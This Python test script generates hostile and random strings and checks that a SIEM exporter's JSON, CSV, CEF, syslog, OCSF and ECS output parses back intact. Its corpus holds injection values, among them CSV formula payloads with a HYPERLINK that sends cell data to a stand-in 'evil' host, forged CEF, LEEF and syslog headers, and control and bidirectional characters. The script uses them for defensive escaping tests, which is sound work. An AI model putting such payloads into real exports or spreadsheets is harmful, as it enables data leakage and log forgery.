"""Reads what SIEMs are told with parsers of others, over a corpus of hostile texts and as many random ones.

`siem.py texts SEED COUNT` prints texts for the example `siem-lines`; `siem.py check` reads what that printed.
"""

import csv
import io
import json
import random
import re
import sys

START_MS = 1_793_491_200_000

CORPUS = [
    "acme",
    "",
    "two\nlines",
    "CR\r\nLF\rCR",
    "tab\tbed",
    "pipe|pipe||",
    "a=b=c",
    "back\\slash\\",
    "\\n is no line end, \\\\n neither",
    'quote "double" \'single\' "',
    "comma, semicolon; colon:",
    "=cmd()",
    "  =1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "＝1+1",
    "=HYPERLINK(\"http://evil/?\"&A1)",
    "nul\0bell\x07escape\x1b[2J\x7f",
    "c1\x85\x9b31m",
    "bidi \u202e\u2066 isolate \u2069",
    "zero\u200bwidth\ufeff",
    "lines\u2028paragraphs\u2029",
    "\\ud800 \\uDC00 \\u0000",
    "é漢字🦀 İ ß",
    "CEF:0|evil|evil|1|1|evil|10|",
    "act=none outcome=none cs1=evil cs1Label=tenant msg=evil",
    "LEEF:2.0|evil|evil|1|1|x09|sev=1",
    "<13>1 - - - - - - evil",
    '] [evil x="1"]',
    '{"event_id":"evil"}',
    "a" * 65_536,
    "ß" * 32_768,
    "x" * 1_023 + "é" + "y" * 100,
]

ALPHABET = "ab0 =|\\\"'`,;:\n\r\t\0\x1b\x7f\x85\u2028\u202e\ufeff{}[]<>+-@#%é漢🦀"


def texts(seed, count):
    dice = random.Random(seed)
    made = ["".join(dice.choices(ALPHABET, k=dice.randrange(60))) for _ in range(count)]
    keys = ("tenant", "detector", "evidence", "reason", "policy_version")
    number = 0
    for text in CORPUS + made:
        # The same text everywhere, and others beside it.
        for others in (False, True):
            number += 1
            pick = lambda: dice.choice(CORPUS + made) if others else text
            print(json.dumps({"number": number, **{key: pick() for key in keys}, "reason": text}))


HOSTILE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]"
)


def cleaned(text):
    """What is left of a text where what is hostile cannot be escaped."""
    return HOSTILE.sub("", text)


def one_line(text):
    return re.sub("[\n\r\t]", " ", cleaned(text))


def same(what, found, expected, notice):
    if found != expected:
        raise SystemExit(f"{what} of {notice['id']} reads {found!r}, and it should be {expected!r}")


def check_lines(notice):
    for name, line in notice["lines"].items():
        # What ends a line for whoever splits at Unicode's line ends: a carriage return is CSV's own.
        lines = line.removesuffix("\r").splitlines()
        same(f"lines of {name}", len(lines), 1, notice)


def check_json(notice):
    told = json.loads(notice["lines"]["json"])
    for key, at in (("id", "event_id"), ("kind", "event_kind"), ("class", "event_class"), ("time_ms",) * 2, ("message",) * 2):
        same(f"json {at}", told[at], notice[key], notice)
    same("json tenant", told.get("tenant"), notice["tenant"], notice)


def check_csv(notice):
    text = notice["csv_header"] + "\n" + notice["lines"]["csv"] + "\n"
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    same("rows", len(rows), 1, notice)
    row = rows[0]
    plain = lambda cell: cell[1:] if cell.startswith("'") else cell
    for key, column in (("id", "event_id"), ("message", "message"), ("tenant", "tenant"), ("account", "account")):
        same(f"csv {column}", plain(row[column]), plain(one_line(notice[key] or "")), notice)
    for cell in row.values():
        if cell.lstrip()[:1] in tuple("=+-@＝＋－＠"):
            raise SystemExit(f"a cell of {notice['id']} is a formula: {cell!r}")
    json.loads(plain(row["metadata"]))


def check_cef(notice):
    import pycef

    event = pycef.parse(notice["lines"]["cef"])
    if event is None:
        raise SystemExit(f"pycef does not take {notice['lines']['cef']!r} for CEF")
    same("cef class", event["DeviceEventClassID"], notice["class"], notice)
    same("cef severity", event["DeviceSeverity"], str(notice["severity_of_ten"]), notice)
    same("cef id", event["externalId"], notice["id"], notice)
    same("cef time", event["rt"], str(notice["time_ms"]), notice)
    escapes = {"\\\\": "\\", "\\=": "=", "\\n": "\n", "\\r": "\r"}
    unescaped = lambda value: re.sub(r"\\[\\=nr]", lambda found: escapes[found[0]], value)
    for key, at in (("message", "msg"), ("tenant", "tenant"), ("policy_version", "policyVersion")):
        expected = cleaned(notice[key] or "").replace("\t", " ").strip()
        same(f"cef {at}", unescaped(event.get(at, "")).strip(), expected, notice)
    same("cef account", event.get("suid"), notice["account"], notice)


def check_syslog(notice):
    from syslog_rfc5424_parser import SyslogMessage

    for name, message in notice["syslog"].items():
        if "\n" in message or "\r" in message:
            raise SystemExit(f"a message of syslog has a line end: {message!r}")
        read = SyslogMessage.parse(message)
        same("syslog facility", read.facility.name, "authpriv", notice)
        same("syslog severity", read.severity.value, notice["syslog_severity"], notice)
        same("syslog host", (read.hostname, read.appname, read.msgid), ("node-1", "weir", notice["kind"]), notice)
        same("syslog origin", read.sd["origin"]["software"], "Weir", notice)
        same("syslog text", read.msg, notice["lines"][name].strip(), notice)


def check_ocsf(notice):
    from py_ocsf_models.events.findings.detection_finding import DetectionFinding

    told = json.loads(notice["lines"]["ocsf"])
    read = DetectionFinding.model_validate(told)
    same("ocsf class", (int(read.class_uid), int(read.type_uid)), (2004, 200400 + int(read.activity_id)), notice)
    same("ocsf id", read.metadata.uid, notice["id"], notice)
    same("ocsf message", read.message, notice["message"], notice)
    same("ocsf time", told["time"], notice["time_ms"], notice)
    if notice["account"]:
        same("ocsf account", read.resources[0].uid, notice["account"], notice)


def check_ecs(notice):
    told = json.loads(notice["lines"]["ecs"])
    same("ecs id", told["event"]["id"], notice["id"], notice)
    same("ecs message", told["message"], notice["message"], notice)
    same("ecs tenant", told.get("organization", {}).get("id"), notice["tenant"], notice)


def check():
    count = 0
    for line in sys.stdin:
        notice = json.loads(line)
        for one in (check_lines, check_json, check_csv, check_cef, check_syslog, check_ocsf, check_ecs):
            one(notice)
        count += 1
    print(f"{count} notices, each read back from CSV, CEF, syslog and OCSF by parsers of others")


if __name__ == "__main__":
    texts(int(sys.argv[2]), int(sys.argv[3])) if sys.argv[1] == "texts" else check()
